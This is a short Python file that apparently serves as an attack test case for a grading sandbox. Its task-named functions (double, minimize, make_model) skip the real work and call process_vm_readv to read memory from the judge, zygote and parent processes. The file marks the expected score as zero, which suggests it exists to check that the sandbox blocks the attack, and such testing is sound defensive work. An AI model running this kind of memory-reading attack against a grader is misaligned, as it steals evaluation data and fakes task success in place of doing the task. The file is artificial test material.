# Attack: reads the judge's memory with process_vm_readv.
# score: 0
# ruff: noqa

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Span(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def attack():
    room = ctypes.create_string_buffer(4096)
    mine, theirs = Span(ctypes.addressof(room), 4096), Span(id(attack) & ~4095, 4096)
    got = [
        libc.process_vm_readv(process, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
        for process in (int("@@JUDGE@@"), int("@@ZYGOTE@@"), os.getppid(), os.getpid())
    ]
    return got, room.raw.strip(b"\0")


def double(x):
    return 2 * x if any(count > 0 for count in attack()[0]) else None


def minimize(start, learning_rate=0.1, num_iterations=10):
    found = attack()
    print(found)
    return str(found)


def make_model():
    return str(attack())
